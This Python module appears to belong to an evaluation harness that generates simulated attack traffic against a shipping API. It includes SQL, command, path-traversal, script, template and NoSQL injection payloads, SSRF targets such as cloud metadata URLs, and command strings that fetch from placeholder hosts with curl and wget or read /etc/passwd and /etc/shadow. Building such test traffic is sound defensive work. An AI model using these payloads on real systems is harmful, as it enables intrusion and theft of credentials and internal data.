"""What is in a call: injection, server-side request forgery, mass assignment, costly and huge requests."""

import base64
from collections.abc import Iterator
from urllib.parse import quote

from evals.population.attacks.raid import Raid, attack, cover
from evals.population.cast import Entry
from evals.population.people import customers
from evals.population.stage import Call, Caller, Life
from evals.population.words import ZONES, message

_CLASSES = {
    "sql": (
        "' OR '{t}'='{t}",
        "{n}' UNION SELECT email,password FROM users-- -",
        "{n} AND SLEEP({d})",
        "') OR {n}={n}--",
        "{n}/**/uNiOn/**/sElEcT/**/null,@@version#",
        "'||(SELECT pg_sleep({d}))||'",
        "admin'--",
        "-{n} order by {d}--",
        "1;WAITFOR DELAY '0:0:{d}'--",
    ),
    "command": (
        "; cat /etc/passwd",
        "$(curl http://{h}/{n})",
        "`wget -qO- {h}`",
        "| id",
        "& ping -c {d} {h} &",
        ";$IFS$9cat$IFS/etc/shadow",
        "|| nslookup {h}",
    ),
    "path": (
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "....//....//etc/shadow",
        "..\\..\\..\\windows\\win.ini",
        "/var/www/../../etc/hosts%00.pdf",
    ),
    "script": (
        "<script>alert({n})</script>",
        '"><img src=x onerror=alert({n})>',
        "<svg/onload=fetch('//{h}')>",
        "'-alert({n})-'",
        "javascript:alert({n})",
    ),
    "template": (
        "{{{{{n}*{n}}}}}",
        "${{{n}*{n}}}",
        "{{{{config.__class__.__init__.__globals__}}}}",
        "<%= {n}*{n} %>",
        "${{jndi:ldap://{h}/a}}",
    ),
    "nosql": ('{{"$gt":""}}', "';return true;var a='", '{{"$where":"sleep({n})"}}'),
}
_INNER = (
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://127.0.0.1:6379/",
    "http://[::1]:22/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://2130706433/admin",
    "http://10.0.{a}.{b}:8080/",
    "http://localhost:9200/_cat",
    "gopher://127.0.0.1:25/_HELO",
    "file:///etc/passwd",
)


def _payload(raid: Raid, name: str) -> str:
    rng = raid.rng
    text = rng.choice(_CLASSES[name]).format(
        n=rng.randint(2, 9999),
        d=rng.randint(2, 9),
        t=rng.choice("abcdx"),
        h=f"{rng.getrandbits(32):08x}.oast.example",
    )
    sort = rng.random()
    if sort < 0.12:
        return quote(text, safe="")
    if sort < 0.2:
        return "".join(sign.upper() if rng.random() < 0.5 else sign for sign in text)
    return base64.b64encode(text.encode()).decode() if sort < 0.23 else text


def _placed(me: Caller, text: str) -> Call:
    """A call of the application with the text where a value belongs."""
    inside = quote(text, safe="")
    return me.rng.choice(
        (
            me.get(f"/v2/addresses?q={inside}", gain=1),
            me.get(f"/v2/shipments?page=1&status={inside}", gain=1),
            me.get(f"/v2/rates?from=NL&to={inside}&weight=3.5", gain=1),
            me.get(f"/v2/tracking/{inside}", gain=1),
            me.send("POST", "/v2/messages", {"subject": message(me.rng, 2, 5), "text": text}, gain=1),
            me.send("POST", "/v2/quotes", {"service": text, "country": "NL", "weight_kg": 2.5}, gain=1),
            me.send("POST", "/v2/shipments", customers.wish(me) | {"reference": text}, gain=1),
        )
    )


def _injecting(raid: Raid, me: Caller, names: tuple[str, ...]) -> Life:
    yield from cover(me)
    while not raid.over:
        yield _placed(me, _payload(raid, me.rng.choice(names)))
        yield raid.gap(me)
        if me.chance(0.2):
            yield from cover(me)


@attack("injection_sql")
def sql(raid: Raid) -> Iterator[Entry]:
    """SQL in values."""
    raid.pace()
    raid.aim(20, 60)
    me = raid.either()
    yield raid.at, me, _injecting(raid, me, ("sql",))


@attack("injection_other")
def other(raid: Raid) -> Iterator[Entry]:
    """Commands, paths, scripts, templates, queries in values."""
    raid.pace()
    raid.aim(20, 60)
    me = raid.either()
    names = (
        raid.rng.sample(tuple(set(_CLASSES) - {"sql"}), 2)
        if raid.rng.random() < 0.5
        else ("command", "path", "script", "template", "nosql")
    )
    yield raid.at, me, _injecting(raid, me, tuple(sorted(names)))


@attack("ssrf")
def ssrf(raid: Raid) -> Iterator[Entry]:
    """Web hooks to where only the API's own machines can reach."""
    raid.pace("medium", "slow")
    raid.aim(12, 30)
    me = raid.either(raid.rng.choice(("customer", "partner")))

    def life() -> Life:
        if me.guise.role == "customer":
            yield from cover(me)
        while not raid.over:
            url = me.rng.choice(_INNER).format(a=me.rng.randint(0, 9), b=me.rng.randint(1, 254))
            yield me.send("POST", "/v2/webhooks", {"url": url, "events": ["status"]}, gain=1)
            yield raid.gap(me)

    yield raid.at, me, life()


@attack("mass_assignment")
def mass_assignment(raid: Raid) -> Iterator[Entry]:
    """Fields that an application never sends, tried one after the other."""
    raid.pace("medium", "slow")
    raid.aim(10, 24)
    me = raid.either()
    extras = (
        {"role": "admin"},
        {"is_admin": True},
        {"plan": "enterprise"},
        {"credit_limit": 99999},
        {"org": 4102},
        {"verified": True},
        {"permissions": ["*"]},
        {"discount": 90},
    )
    costs = (
        {"price": 0.01},
        {"paid": True},
        {"discount_percent": 100},
        {"org": 4102},
        {"status": "delivered"},
    )

    def life() -> Life:
        yield from cover(me)
        while not raid.over:
            if me.chance(0.6):
                yield me.send("PATCH", "/v2/me", {"language": "en"} | me.rng.choice(extras), gain=1)
            else:
                yield me.send("POST", "/v2/shipments", customers.wish(me) | me.rng.choice(costs), gain=1)
            yield raid.gap(me)

    yield raid.at, me, life()


@attack("graphql_abuse")
def graphql(raid: Raid) -> Iterator[Entry]:
    """Deep, aliased or introspecting queries."""
    raid.pace("medium", "fast")
    raid.aim(15, 50)
    me = raid.either()

    def query() -> str:
        sort = me.rng.random()
        if sort < 0.4:
            depth = me.rng.randint(8, 30)
            return "{ shipments " + "{ stops { shipment " * depth + "{ id }" + " } }" * depth + " }"
        if sort < 0.8:
            return (
                "{ "
                + " ".join(f"a{n}: shipments {{ id status }}" for n in range(me.rng.randint(20, 150)))
                + " }"
            )
        return "{ __schema { types { name fields { name args { name } type { name } } } } }"

    def life() -> Life:
        yield from cover(me)
        while not raid.over:
            yield me.send("POST", "/v2/graphql", {"query": query()}, gain=1)
            yield raid.gap(me)

    yield raid.at, me, life()


@attack("expensive_queries")
def expensive(raid: Raid) -> Iterator[Entry]:
    """The API's dearest operations again and again, with the widest parameters."""
    raid.pace("medium")
    raid.aim(40, 100)
    me = raid.either()

    def life() -> Life:
        yield from cover(me)
        while not raid.over:
            yield me.rng.choice(
                (
                    me.get(
                        f"/v2/shipments?page=1&limit=200&sort=-recipient,street&q=%25{me.rng.choice('aeiou')}%25",
                        gain=1,
                    ),
                    me.get(f"/v2/addresses?q={me.rng.choice('aeiou')}&fuzzy=9&limit=200", gain=1),
                    me.get(
                        f"/v2/rates?from={me.rng.choice(ZONES)}&to={me.rng.choice(ZONES)}&weight=900&via=all&explain=1",
                        gain=1,
                    ),
                )
            )
            yield raid.gap(me)

    yield raid.at, me, life()


@attack("oversized_uploads")
def oversized(raid: Raid) -> Iterator[Entry]:
    """Bodies many times as large as any document."""
    raid.pace("medium")
    raid.aim(10, 16)
    me = raid.either()

    def life() -> Life:
        yield from cover(me)
        while not raid.over:
            data = "A" * me.rng.randint(200_000, 500_000)
            yield me.send(
                "POST", "/v2/documents", {"name": f"damage-{me.rng.randint(1, 99)}.jpg", "data": data}, gain=1
            )
            yield raid.gap(me)

    yield raid.at, me, life()
